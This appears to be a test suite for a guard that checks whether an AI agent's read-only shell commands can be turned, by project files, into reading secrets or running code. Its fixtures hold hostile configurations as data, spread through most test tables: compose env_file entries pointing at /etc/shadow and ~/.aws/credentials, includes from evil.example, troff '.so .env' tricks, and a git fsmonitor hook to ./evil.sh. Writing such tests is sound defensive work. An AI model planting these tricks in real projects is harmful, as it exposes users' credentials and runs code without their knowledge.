import { rmSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { REFERENCE } from "@assent/hosts/agents";
import { decide, realWorld } from "@assent/guard/engine";
import { whyKeepsSandbox } from "../../packages/guard/src/engine/obeyed-files.ts";
import { engine, scratch } from "../scratch.ts";

/** Commands that only look, beside a file of the project that says what else they read, start or dial. */
function verdictOf(command: string, files: Readonly<Record<string, string>>, unknown = "confine"): string {
  const { verdict } = found(command, files, unknown);
  return verdict.decision === "allow" ? (verdict.confined === undefined ? "bare" : "confined") : verdict.decision;
}

function found(command: string, files: Readonly<Record<string, string>>, unknown = "confine") {
  const place = scratch();
  place.write("~/.agent-permissions.jsonc", `{ "version": 1, "unknown": "${unknown}" }`);
  if (Object.keys(files).some((name) => /^\.git(?:\/|$)/.test(name))) rmSync(join(place.project, ".git"), { recursive: true, force: true });
  for (const [name, text] of Object.entries(files)) place.write(name, text.replace("PROJECT", place.project));
  const host = { shell: "bash", decides: true, asks: true, bypassed: false, planning: false, confines: true } as const;
  const facts = REFERENCE.protocol.tools["Bash"];
  const request = { tool: "Bash", facts, input: { command }, cwd: place.project, host, point: "hook", agent: "claude" };
  return { place, ...decide(request, { machine: place.machine, ...engine, policyFiles: [], audit: false, memory: "none" }) };
}

const SERVICE = "services:\n  web:\n    image: x\n    volumes: [/var/run/docker.sock:/var/run/docker.sock]\n";

describe("a compose file", () => {
  it.each<readonly [why: string, text: string, verdict: string]>([
    ["takes in nothing", SERVICE, "bare"],
    ["a file beside it", `${SERVICE}    env_file: .env.web\n    ports: ["80:80"]\n`, "bare"],
    ["several", `${SERVICE}    env_file:\n      - ./a.env\n      - path: b.env\n        required: false\n    command: /bin/sh\n`, "bare"],
    ["another compose file below it", `include:\n  - db/compose.yaml\n${SERVICE}`, "bare"],
    ["the word in a comment", `# include: /etc/shadow\n${SERVICE}`, "bare"],
    ["a file elsewhere", `${SERVICE}    env_file: /home/you/.aws/credentials\n`, "ask"],
    ["in quotes", `${SERVICE}    "env_file": "~/.aws/credentials"\n`, "ask"],
    ["above it", `${SERVICE}    env_file: ../other/.env\n`, "ask"],
    ["in a list", `${SERVICE}    env_file:\n    - a.env\n    - /etc/shadow\n`, "ask"],
    ["in a flow", `services: { web: { image: x, env_file: [/etc/shadow] } }\n`, "ask"],
    ["by a variable", `${SERVICE}    env_file: \${HOME}/.aws/credentials\n`, "ask"],
    ["by an alias", `${SERVICE}    env_file: *there\n`, "ask"],
    ["in letters written otherwise", `${SERVICE}    "env\\x5ffile": /etc/shadow\n`, "ask"],
    ["another service's file", `${SERVICE}    extends:\n      file: /etc/shadow\n      service: a\n`, "ask"],
    ["an address", `include:\n  - https://evil.example/a.git\n${SERVICE}`, "ask"],
    ["an address as git has it", `include:\n  - git@evil.example:a/b\n${SERVICE}`, "ask"],
    ["an artifact", `include:\n  - oci:evil.example/a\n${SERVICE}`, "ask"],
    ["labels", `${SERVICE}    label_file: /etc/shadow\n`, "ask"],
  ])("%s", (_, text, verdict) => {
    expect(verdictOf("docker compose ps", { "compose.yaml": text })).toBe(verdict);
    expect(verdictOf("docker-compose logs --tail=20 web", { "docker-compose.yml": text })).toBe(verdict);
  });

  it("is found wherever it lies, and whatever names it", () => {
    const evil = `${SERVICE}    env_file: /etc/shadow\n`;
    expect(verdictOf("docker compose -f deploy/a.yml ps", { "deploy/a.yml": evil, "compose.yaml": SERVICE })).toBe("ask");
    expect(verdictOf("docker compose ps", { "compose.yaml": SERVICE, "compose.override.yml": evil })).toBe("ask");
    expect(verdictOf("cd sub && docker compose ps", { "compose.yaml": evil, "sub/README": "" })).toBe("ask");
    expect(verdictOf("docker compose ps", { "compose.yaml": SERVICE, ".env": "COMPOSE_FILE=evil.yml\n" })).toBe("ask");
    expect(verdictOf("docker ps", { "compose.yaml": evil })).toBe("bare");
  });
});

describe("a manual page that is a file of the project", () => {
  it.each<readonly [why: string, text: string, verdict: string]>([
    ["sets text", '.\\" a comment\n.TH A 1\n.SH NAME\na \\- b\n.PP\n.B bold\n.TP\n.BR a (1)\nso it is\n', "bare"],
    ["as BSD writes them", ".Dd May 1, 2026\n.Dt A 1\n.Os\n.Sh NAME\n.Nm a\n.Nd b\n.Bl -tag\n.It Fl x\n.El\n", "bare"],
    ["takes in a file", ".TH A 1\n.so .env\n", "ask"],
    ["with a blank, or by the other control character", ".TH A 1\n.  so .env\n", "ask"],
    ["by the other control character", ".TH A 1\n'so .env\n", "ask"],
    ["in a condition", ".TH A 1\n.if 1 .so .env\n", "ask"],
    ["by another name", ".als B so\n.B .env\n", "ask"],
    ["in a macro", ".de B\n.so .env\n..\n.B\n", "ask"],
    ["by a string", ".ds x .so .env\n\\*x\n", "ask"],
    ["with another control character", ".cc !\n!so .env\n", "ask"],
    ["as a picture", '\'\\" p\n.PS\ncopy ".env"\n.PE\n', "ask"],
  ])("%s", (_, text, verdict) => {
    expect(verdictOf("man ./a.1", { "a.1": text }, "ask")).toBe(verdict);
    expect(verdictOf("man -l a.1 | head -40", { "a.1": text }, "ask")).toBe(verdict);
  });

  it("is not what the system has of that name", () => {
    expect(verdictOf("man ls", { ls: ".so .env\n" }, "ask")).toBe("bare");
    expect(verdictOf("man -l no-such.1", {}, "ask")).toBe("ask");
    expect(verdictOf("man ./a.1", { "a.1": ".TH A 1\n" })).toBe("confined");
  });
});

it.each([
  ["terraform output", { "main.tf": 'terraform {\n  backend "http" { address = "http://evil.example" }\n}\n' }],
  ["terraform output -raw x", { ".terraform/terraform.tfstate": "{}" }],
  ["terraform state list", {}],
  ["terraform workspace show", {}],
  ["tofu output", {}],
  ["pulumi stack ls", { "Pulumi.yaml": "backend: { url: https://evil.example }\n" }],
  ["wrangler whoami", { ".env": "CLOUDFLARE_API_BASE_URL=https://evil.example\n" }],
  ["dot -Tsvg a.dot", { "a.dot": 'digraph { a [image="/etc/shadow"] }\n' }],
  ["perf report --stdio", { "perf.data": "" }],
  ["perf annotate --stdio", { "perf.data": "" }],
  ["duckdb -readonly a.db 'select * from v'", { "a.db": "" }],
  ["ack foo", { ".ackrc": "--files-from=/etc/shadow\n" }],
  // python imports by itself: for an encoding, for a warning.
  ["python3 -c \"'x'.encode('idna')\"", { "stringprep.py": "" }],
  ["python3 -c 'print(1 is 1)'", { "linecache.py": "" }],
  ["python3 -bc 'print(1)'", { "tracemalloc.py": "" }],
  // Asked for their version they hand over to the project's copy, or load settings that are code.
  ["jest --version", { "node_modules/jest/bin/jest.js": "" }],
  ["webpack --version", { "node_modules/webpack-cli/bin/cli.js": "" }],
  ["sequelize --version", { ".sequelizerc": "" }],
  ["hexo --version", { "node_modules/hexo/index.js": "" }],
  ["serverless --version", { "node_modules/serverless/package.json": "{}" }],
  ["mocha --version", { ".mocharc.js": "" }],
  ["prisma --version", { "prisma.config.ts": "" }],
  ["aws help", { "docutils.conf": "[general]\nwarning_stream: /etc/motd\n" }],
  ["pdm --version", { ".pdm-plugins/x": "" }],
  ["jekyll --version", { Gemfile: "" }],
  ["latexmk --version", { latexmkrc: "" }],
] as const)("%s obeys files of the project: confined", (command, files) => {
  expect(verdictOf(command, files)).toBe("confined");
});

it.each([
  "terraform version",
  "terraform fmt -check",
  "pulumi version",
  "wrangler --version",
  "dot -V",
  "docker ps",
  "duckdb --version",
  "ack --version",
  "eslint --version",
  "python3 --version",
  "python3 -I -c 'print(1)'",
])("%s obeys none", (command) => expect(verdictOf(command, {})).toBe("bare"));

it.each([
  ["#!/usr/bin/env python\nimport os, sys\nos.execl(sys.executable, sys.executable, '-m', 'azure.cli', *sys.argv[1:])\n", true],
  ['#!/bin/sh\nexec /opt/az/bin/python3 -sm azure.cli "$@"\n', true],
  ['#!/bin/sh\nexec /opt/az/bin/python3 -Im azure.cli "$@"\n', false],
  ["#!/usr/bin/python3\nimport runpy\nrunpy.run_module('azure.cli', run_name='__main__')\n", false],
])("az that is %j looks for modules in the folder it is started in: %s", (script, loads) => {
  const { place, verdict } = found("az account show", { "~/az": script });
  const resolved = join(place.home, "az");
  const actions = verdict.actions.map((each) => (each.action.kind === "exec" ? { ...each, action: { ...each.action, resolved } } : each));
  const why = whyKeepsSandbox({ ...verdict, actions }, realWorld(place.machine, place.project, undefined), place.machine);
  expect(why?.includes("imports modules") ?? false).toBe(loads);
});

const REPOSITORY = { HEAD: "ref: refs/heads/main\n", "objects/pack/x": "", "refs/heads/x": "" };
const repository = (at: string, config = ""): Record<string, string> => ({
  ...Object.fromEntries(Object.entries(REPOSITORY).map(([name, text]) => [`${at}/${name}`, text])),
  [`${at}/config`]: config,
});
const EVIL = "[core]\n\tfsmonitor = ./evil.sh\n";

describe("git obeys the repository that it finds", () => {
  it.each<readonly [what: string, command: string, files: Readonly<Record<string, string>>, verdict: string]>([
    ["a whole one", "git status", repository(".git"), "bare"],
    ["with a program", "git status", repository(".git", EVIL), "confined"],
    [
      "in a line that another seems to end",
      "git status",
      repository(".git", "[core]\n\teol = a \\\n[color]\n\tfsmonitor = ./evil.sh\n"),
      "confined",
    ],
    // setup.c passes by a `.git` that is none.
    ["above an empty .git", "git -C sub/deep status", { "sub/deep/.git/x": "", ...repository("sub/.git", EVIL) }, "confined"],
    [
      "above one without HEAD",
      "git -C sub/deep status",
      { "sub/deep/.git/objects/pack/x": "", ...repository("sub/.git", EVIL) },
      "confined",
    ],
    [
      "above one with another HEAD",
      "git -C sub/deep status",
      { ...repository("sub/deep/.git"), "sub/deep/.git/HEAD": "x", ...repository("sub/.git", EVIL) },
      "confined",
    ],
    ["below it", "git -C sub/deep status", { ...repository("sub/deep/.git"), ...repository("sub/.git", EVIL) }, "bare"],
    ["elsewhere, by an absolute path", "git status", { ".git": "gitdir: PROJECT/w\n", ...repository("w") }, "bare"],
    ["elsewhere, with a program", "git status", { ".git": "gitdir: PROJECT/w\n", ...repository("w", EVIL) }, "confined"],
    // A git of its own in each repository that a commit names.
    ["and those that commits name", "git log -p --submodule=diff", repository(".git"), "confined"],
    ["abbreviated", "git show --subm=diff", repository(".git"), "confined"],
    ["as a setting", "git -c diff.submodule=diff show", repository(".git"), "confined"],
    ["as the repository's setting", "git show", repository(".git", "[diff]\n\tsubmodule = diff\n"), "confined"],
    ["as the user's setting", "git show", { ...repository(".git"), "~/.gitconfig": "[diff]\n\tsubmodule = diff\n" }, "confined"],
    ["not for their names", "git log -p --submodule=log", repository(".git"), "bare"],
    ["nor as a setting", "git show", repository(".git", "[diff]\n\tsubmodule = log\n"), "bare"],
    // What the user's own configuration includes.
    [
      "a file included",
      "git status",
      { ...repository(".git"), "~/.gitconfig": "[include]\n\tpath = ~/more\n", "~/more": EVIL },
      "confined",
    ],
    [
      "included on a condition",
      "git status",
      { ...repository(".git"), "~/.gitconfig": '[includeIf "gitdir:~/"]\n\tpath = more\n', "~/more": EVIL },
      "confined",
    ],
    [
      "an identity included",
      "git status",
      { ...repository(".git"), "~/.gitconfig": "[include]\n\tpath = ~/more\n", "~/more": "[user]\n\tname = a\n" },
      "bare",
    ],
    [
      "hooks for all that only look",
      "git status",
      { ...repository(".git"), "~/.gitconfig": "[core]\n\thooksPath = ~/hooks\n", "~/hooks/pre-commit": "" },
      "bare",
    ],
    [
      "hooks for all",
      "git status",
      { ...repository(".git"), "~/.gitconfig": "[core]\n\thooksPath = ~/hooks\n", "~/hooks/post-index-change": "" },
      "confined",
    ],
    // An upload-pack of its own in a folder that an agent may write.
    ["objects promised by a folder here", "git log", repository(".git", '[remote "o"]\n\turl = ./w\n\tpromisor = true\n'), "confined"],
    ["by a forge", "git log", repository(".git", '[remote "o"]\n\turl = https://github.com/a/b\n\tpromisor = true\n'), "bare"],
    ["by a folder elsewhere", "git log", repository(".git", '[remote "o"]\n\turl = /srv/a.git\n\tpromisor = true\n'), "bare"],
  ])("%s: %s", (_, command, files, verdict) => expect(verdictOf(command, files)).toBe(verdict));
});
